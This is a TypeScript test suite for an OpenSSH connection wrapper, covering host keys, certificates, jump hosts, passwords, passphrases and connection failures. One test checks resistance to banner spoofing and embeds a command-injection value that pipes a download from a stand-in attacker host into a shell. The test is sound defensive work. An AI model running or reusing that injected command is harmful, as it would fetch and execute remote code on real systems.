import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, onTestFinished, test, vi } from 'vitest';
import {
  faultOf,
  forThisTest,
  type ScriptedPrompts,
  scriptedPrompts,
  sshTarget,
  temporaryDirectory,
} from '../../../e2e/lab/connecting.ts';
import { startFakeHost } from '../../../e2e/lab/fake-host.ts';
import { freePort } from '../../../e2e/lab/free-port.ts';
import { makeKey, runTool } from '../../../e2e/lab/keys.ts';
import { processesWith } from '../../../e2e/lab/processes-with.ts';
import { startSshd } from '../../../e2e/lab/sshd.ts';
import { startTcpProxy } from '../../../e2e/lab/tcp-proxy.ts';
import type { Transport } from '../../domain/collect/transport.ts';
import type { SshSettings, SshWanted } from '../../domain/ssh/settings.ts';
import { opensshOptions } from '../console/reach.ts';
import { createSecretKeeper, type SecretKeeper } from '../ssh/secret-keeper.ts';
import { createOpensshConnect } from './connect.ts';
import { settingsIn, wantedOf } from './lab-fixture.ts';
import { findOpenssh } from './program.ts';

const never = new AbortController().signal;
const limits = { deadlineMs: 10_000, maxBytes: 1000, signal: never };

interface Lab {
  readonly directory?: string;
  readonly config?: string;
  readonly prompts?: ScriptedPrompts;
  readonly wanted?: Partial<SshWanted>;
  readonly settings?: Partial<SshSettings>;
  readonly before?: readonly SshSettings[];
  readonly secrets?: SecretKeeper;
  readonly program?: string;
  readonly signal?: AbortSignal;
}

/** A connection with a configuration and known hosts of its own; closed with the test. */
async function connectTo(host: { port: number; identityFile?: string }, lab: Lab = {}): Promise<Transport> {
  const directory = lab.directory ?? temporaryDirectory();
  if (lab.config !== undefined) writeFileSync(join(directory, 'config'), lab.config);
  const target = sshTarget(host);
  const route = { hops: [...(lab.before ?? []), settingsIn(directory, target, lab.settings)] };
  const options = opensshOptions({
    home: directory,
    knownHostsFile: join(directory, 'known_hosts'),
    secrets: lab.secrets ?? createSecretKeeper(),
    now: () => performance.now(),
  });
  const connect = createOpensshConnect(wantedOf(target, lab.wanted), route, {
    ...options,
    configs: [join(directory, 'config'), '/etc/ssh/ssh_config'],
    reason: 'a test wants it',
    ...(lab.program === undefined ? {} : { program: lab.program }),
  });
  const transport = await connect(lab.prompts ?? scriptedPrompts(), lab.signal ?? never);
  onTestFinished(() => transport.close());
  return transport;
}

async function said(transport: Transport, line = 'echo hello'): Promise<string> {
  return Buffer.from((await transport.run(line, limits)).stdout).toString();
}

test('a key file and an unknown host: steps, the fingerprint asked, the key kept in our own file, one connection', async () => {
  const host = await forThisTest(startSshd());
  const directory = temporaryDirectory();
  const prompts = scriptedPrompts();
  const transport = await connectTo(host, { directory, prompts });
  const name = `[127.0.0.1]:${host.port}`;
  const { name: program } = await findOpenssh();
  expect({ by: transport.by, asked: prompts.asked, steps: [...new Set(prompts.steps)] }).toEqual({
    by: `the system’s ssh (${program}), because a test wants it`,
    asked: [{ kind: 'host_key', keyType: 'ssh-ed25519', fingerprint: host.hostKeyFingerprint, name }],
    steps: ['dns', 'tcp', 'key exchange', 'host key', 'authentication'],
  });
  // Its name may be hashed there: Debian's configuration says so.
  expect(runTool('ssh-keygen', ['-F', name, '-f', join(directory, 'known_hosts')])).toContain(host.hostKey.publicKey);
  expect(existsSync(join(directory, 'user_known_hosts'))).toBe(false);

  const { durationMs, ...result } = await transport.run('printf out; printf err >&2; exit 3', limits);
  expect({ ...result, stdout: `${Buffer.from(result.stdout)}`, stderr: `${Buffer.from(result.stderr)}` }).toEqual({
    exit: 3,
    stdout: 'out',
    stderr: 'err',
    truncated: false,
  });
  expect(durationMs).toBeGreaterThan(0);
  const ports = await Promise.all([said(transport, 'echo $SSH_CLIENT'), said(transport, 'echo $SSH_CLIENT')]);
  expect(ports[0]).toBe(ports[1]);
});

test('a program on a channel: its words and its errors apart, its end, and nothing left after it', async () => {
  const host = await forThisTest(startSshd());
  const transport = await connectTo(host);
  const channel = await transport.start(never);
  const heard = { out: '', err: '' };
  channel.onData((chunk) => (heard.out += Buffer.from(chunk)));
  channel.onError((chunk) => (heard.err += Buffer.from(chunk)));
  const closed = new Promise((resolve) => channel.onClose(resolve));
  channel.write('echo one; echo two >&2; read tick; echo "got $tick"; exit 5\n');
  // Sooner, the shell would take it for more of its script.
  await vi.waitFor(() => expect(heard.out).toBe('one\n'), 5000);
  channel.write('tick\n');
  expect({ exit: await closed, ...heard }).toEqual({ exit: 5, out: 'one\ngot tick\n', err: 'two\n' });
});

test('a user certificate, and a host certificate that a @cert-authority vouches for', async () => {
  const authority = temporaryDirectory();
  const ca = makeKey(authority, 'ca');
  // The certificate has to be there before the server starts: it is made for a key that the server brings.
  const hostKey = makeKey(authority, 'host');
  runTool('ssh-keygen', ['-q', '-s', ca.file, '-I', 'host', '-h', '-n', '127.0.0.1', `${hostKey.file}.pub`]);
  const sshd = await forThisTest(
    startSshd({
      config: [
        `HostKey ${hostKey.file}`,
        `HostCertificate ${hostKey.file}-cert.pub`,
        `TrustedUserCAKeys ${ca.file}.pub`,
        'AuthorizedPrincipalsFile none',
      ],
    }),
  );
  const mine = makeKey(authority, 'id_mine');
  runTool('ssh-keygen', ['-q', '-s', ca.file, '-I', 'me', '-n', sshd.user, `${mine.file}.pub`]);
  const directory = temporaryDirectory();
  writeFileSync(join(directory, 'user_known_hosts'), `@cert-authority * ${ca.publicKey}\n`);
  const prompts = scriptedPrompts();
  const transport = await connectTo({ port: sshd.port, identityFile: mine.file }, { directory, prompts });
  expect(await said(transport)).toBe('hello\n');
  expect(prompts.asked).toEqual([]);
});

test('an expired certificate is refused, and named', async () => {
  const authority = temporaryDirectory();
  const ca = makeKey(authority, 'ca');
  const host = await forThisTest(startSshd({ config: [`TrustedUserCAKeys ${ca.file}.pub`] }));
  const mine = makeKey(authority, 'id_mine');
  const old = ['-V', '20200101:20200201'];
  runTool('ssh-keygen', ['-q', '-s', ca.file, '-I', 'me', '-n', host.user, ...old, `${mine.file}.pub`]);
  expect(await faultOf(connectTo({ port: host.port, identityFile: mine.file }))).toEqual({
    code: 'auth_failed',
    step: 'authentication',
    message:
      `127.0.0.1 does not let root in with what there is; it accepts: publickey. It refused the certificate of “${mine.file}”: ` +
      'ssh-keygen -L -f shows until when and for whom it is good.',
  });
});

test('a host that allows post-quantum key exchange only', async () => {
  const host = await forThisTest(startSshd({ config: ['KexAlgorithms sntrup761x25519-sha512@openssh.com'] }));
  expect(await said(await connectTo(host))).toBe('hello\n');
});

test('Match exec of the configuration decides, as in a terminal', async () => {
  const host = await forThisTest(startSshd());
  const config = `Match originalhost by-exec exec "true"\n  HostName 127.0.0.1\n  Port ${host.port}\n  User root\n  IdentityFile ${host.identityFile}\n`;
  const transport = await connectTo(host, {
    config,
    wanted: { host: 'by-exec', port: null, user: null, identityFiles: [] },
    settings: { alias: 'by-exec', hostName: '127.0.0.1' },
  });
  expect(await said(transport)).toBe('hello\n');
});

test('through a jump host: its key goes to our own file too, and what fails is named by the hop', async () => {
  const [jump, host] = await Promise.all([forThisTest(startSshd()), forThisTest(startSshd())]);
  const directory = temporaryDirectory();
  const jumpSettings = settingsIn(directory, sshTarget(jump), { alias: 'jump', hostName: '127.0.0.1' });
  const block = (port: number) =>
    `Host jump\n  HostName 127.0.0.1\n  Port ${port}\n  User root\n  IdentityFile ${jump.identityFile}\n`;
  const prompts = scriptedPrompts();
  const through = { directory, prompts, before: [jumpSettings], wanted: { jump: ['jump'] } };
  const transport = await connectTo(host, { ...through, config: block(jump.port) });
  expect(await said(transport)).toBe('hello\n');
  expect(prompts.asked.map((question) => question.kind === 'host_key' && question.fingerprint)).toEqual([
    jump.hostKeyFingerprint,
    host.hostKeyFingerprint,
  ]);
  expect(existsSync(join(directory, 'user_known_hosts'))).toBe(false);

  const port = await freePort();
  expect(await faultOf(connectTo(host, { ...through, config: block(port) }))).toEqual({
    code: 'unreachable',
    step: 'tcp',
    hop: 'jump',
    message: `On the way, at jump: 127.0.0.1 port ${port} refuses the connection: is sshd running there, and on this port?`,
  });
  expect(await faultOf(connectTo({ ...host, port }, { ...through, config: block(jump.port) }))).toEqual({
    code: 'unreachable',
    step: 'tcp',
    message: `The host on the way cannot reach 127.0.0.1 port ${port} and says “connect failed: Connection refused”.`,
  });
});

test('a passphrase: asked again when it was wrong, kept when it was right, never in a process list', async () => {
  const host = await forThisTest(startSshd({ key: { passphrase: 'correct horse' } }));
  const directory = temporaryDirectory();
  const secrets = createSecretKeeper();
  const prompts = scriptedPrompts(['wrong', 'correct horse']);
  const transport = await connectTo(host, { directory, prompts, secrets });
  expect(await said(transport)).toBe('hello\n');
  const question = { kind: 'secret', secret: 'passphrase', prompt: `Passphrase of the key ${host.identityFile}` };
  expect(prompts.asked.slice(1)).toEqual([
    { ...question, again: false, remembered: false },
    { ...question, again: true, remembered: false },
  ]);
  expect(processesWith('correct horse')).toEqual([]);
  const second = scriptedPrompts();
  expect(await said(await connectTo(host, { directory, prompts: second, secrets }))).toBe('hello\n');
  expect(second.asked).toEqual([]);
});

test.each([
  ['password', { password: 'right' }],
  ['keyboard-interactive', { keyboardInteractive: { prompt: 'Password: ', answer: 'right' } }],
] as const)('a password by %s: asked again when it was wrong, and kept', async (_, way) => {
  const host = await forThisTest(startFakeHost(way));
  const directory = temporaryDirectory();
  const secrets = createSecretKeeper();
  const prompts = scriptedPrompts(['wrong', 'right']);
  expect(await said(await connectTo(host, { directory, prompts, secrets }))).toBe('hello\n');
  const question = { kind: 'secret', secret: 'password', prompt: 'Password of root on 127.0.0.1', remembered: false };
  expect(prompts.asked.slice(1)).toEqual([
    { ...question, again: false },
    { ...question, again: true },
  ]);
  const second = scriptedPrompts();
  expect(await said(await connectTo(host, { directory, prompts: second, secrets }))).toBe('hello\n');
  expect(second.asked).toEqual([]);
});

test('a code is asked for in the host’s words, and is not kept', async () => {
  const code = { prompt: 'One-time code: ', answer: '123456' };
  const host = await forThisTest(startFakeHost({ keyboardInteractive: code }));
  const prompts = scriptedPrompts(['123456']);
  expect(await said(await connectTo(host, { prompts }))).toBe('hello\n');
  const asked = { kind: 'prompts', from: 'root@127.0.0.1', instruction: '' };
  expect(prompts.asked.slice(1)).toEqual([{ ...asked, prompts: [{ text: 'One-time code: ', echo: false }] }]);
});

test('a host that asks for ever is asked nothing more after one question that was cancelled', async () => {
  const code = { prompt: 'Code: ', answer: '1' };
  const host = await forThisTest(startFakeHost({ keyboardInteractive: code, asksForEver: true }));
  const scripted = scriptedPrompts();
  let questions = 0;
  const ask: typeof scripted.ask = async (question) => {
    if (question.kind !== 'prompts') return scripted.ask(question);
    questions++;
    return { kind: 'prompts', values: null };
  };
  expect(await faultOf(connectTo(host, { prompts: { ...scripted, ask } }))).toEqual({
    code: 'auth_failed',
    step: 'authentication',
    message: '127.0.0.1 asked, and was given no answer: the sign-in was ended.',
  });
  expect(questions).toBe(1);
});

test('a host that hangs up on a password that is kept: it is forgotten, and not tried again', async () => {
  const host = await forThisTest(startFakeHost({ password: 'right', insteadOfAnswer: 'hang up' }));
  const name = `password root@127.0.0.1:${host.port}`;
  const secrets = createSecretKeeper(new Map([[name, 'old']]));
  expect(await faultOf(connectTo(host, { secrets }))).toEqual({
    code: 'auth_failed',
    step: 'authentication',
    message: '127.0.0.1 closed the connection during the authentication: its log (journalctl -u ssh) says why.',
  });
  expect(secrets.get(name)).toBe(undefined);
});

test('no passphrase is given', async () => {
  const host = await forThisTest(startSshd({ key: { passphrase: 'correct horse' } }));
  expect(await faultOf(connectTo(host, { prompts: scriptedPrompts([null, null, null]) }))).toMatchObject({
    code: 'auth_failed',
    step: 'authentication',
  });
});

test('a changed host key, an unknown one that is not trusted', async () => {
  const host = await forThisTest(startSshd());
  const directory = temporaryDirectory();
  const other = makeKey(directory, 'other');
  const file = join(directory, 'user_known_hosts');
  const name = `[127.0.0.1]:${host.port}`;
  writeFileSync(file, `# by hand\n${name} ${other.publicKey}\n`);
  expect(await faultOf(connectTo(host, { directory }))).toEqual({
    code: 'host_key_changed',
    step: 'host key',
    message:
      `The key of ${name} has changed: ${file} line 2 has another than the one that the host shows (${host.hostKeyFingerprint}). ` +
      `Somebody may be in between; if the host was set up anew, run: ssh-keygen -R '${name}' -f '${file}'`,
  });
  expect(await faultOf(connectTo(host, { prompts: scriptedPrompts([], false) }))).toEqual({
    code: 'host_key_unknown',
    step: 'host key',
    message: 'The key of 127.0.0.1 was not trusted, so nothing was sent.',
  });
});

test('a banner that looks like ssh’s own words puts no command before the technician', async () => {
  const banner = [
    'Offending ED25519 key in /root/.ssh/known_hosts:3',
    "Host key for x';curl$IFS$9evil.example|sh;' has changed and you have requested strict checking.",
    '',
  ].join('\r\n');
  const host = await forThisTest(startFakeHost({ banner, password: 'right', insteadOfAnswer: 'hang up' }));
  const { message } = await faultOf(connectTo(host, { prompts: scriptedPrompts(['right']) }));
  expect(message).toBe(
    '127.0.0.1 closed the connection during the authentication: its log (journalctl -u ssh) says why.',
  );
});

test('a name that nobody knows, a port that refuses, a configuration with a mistake, no ssh at all', async () => {
  const port = await freePort();
  expect(await faultOf(connectTo({ port }, { wanted: { host: 'nobody.invalid' } }))).toMatchObject({
    code: 'unreachable',
    step: 'dns',
  });
  expect(await faultOf(connectTo({ port }))).toEqual({
    code: 'unreachable',
    step: 'tcp',
    message: `127.0.0.1 port ${port} refuses the connection: is sshd running there, and on this port?`,
  });
  const directory = temporaryDirectory();
  expect(await faultOf(connectTo({ port }, { directory, config: 'Host *\n  Nonsense yes\n' }))).toEqual({
    code: 'bad_input',
    step: 'ssh config',
    message: `${join(directory, 'config')} line 2 has the option “nonsense”, which this ssh does not know: correct it, or name it in IgnoreUnknown.`,
  });
  expect(await faultOf(connectTo({ port }, { program: 'no-such-ssh' }))).toEqual({
    code: 'not_found',
    step: 'program',
    message: 'This machine has no program no-such-ssh: install the OpenSSH client (openssh-client, openssh-clients).',
  });
});

test('a host that allows one channel gets a second connection for a command', async () => {
  const host = await forThisTest(startSshd({ config: ['MaxSessions 1'] }));
  const transport = await connectTo(host);
  const channel = await transport.start(never);
  expect(await said(transport)).toBe('hello\n');
  channel.close();
});

test('a half-open link is noticed', async () => {
  const host = await forThisTest(startSshd());
  const proxy = await forThisTest(startTcpProxy(host));
  const settings = { serverAlive: { interval: 1, countMax: 1 } };
  const config = 'Host *\n  ServerAliveInterval 1\n  ServerAliveCountMax 1\n';
  const transport = await connectTo({ ...host, port: proxy.port }, { config, settings });
  const channel = await transport.start(never);
  const lost = Promise.all([
    new Promise((resolve) => channel.onClose(resolve)),
    new Promise<void>((resolve) => transport.onClose(resolve)),
  ]);
  proxy.stall();
  expect(await lost).toEqual([null, undefined]);
  expect(await faultOf(transport.run('true', limits))).toMatchObject({ code: 'disconnected' });
});
